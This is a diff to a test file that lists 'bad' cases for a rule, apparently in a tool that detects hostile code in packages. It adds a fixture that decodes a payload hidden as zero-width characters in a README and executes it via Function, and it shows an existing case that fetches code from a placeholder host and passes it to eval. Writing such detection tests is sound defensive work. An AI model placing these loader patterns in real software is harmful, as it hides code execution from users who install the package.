@@ -4,6 +4,14 @@ import { defineCases } from '../../src/rule.ts';
 export default defineCases({
   bad: [
     {
+      name: 'letters in bits, told by characters without a shape in a text of the package',
+      files: {
+        'README.md': '# x\n',
+        'index.js':
+          "const md = require('fs').readFileSync(__dirname + '/README.md', 'utf8');\nconst bits = [...md.matchAll(/[\\u200b\\u200c]/g)].map(([c]) => (c === '\\u200b' ? '0' : '1')).join('');\nconst text = bits.match(/.{8}/g)?.map((b) => String.fromCharCode(parseInt(b, 2))).join('');\nif (text) Function('require', text)(require);",
+      },
+    },
+    {
       name: 'a download that is handed to eval',
       code: "fetch('https://a.example/x').then((answer) => answer.text()).then(eval);",
     },
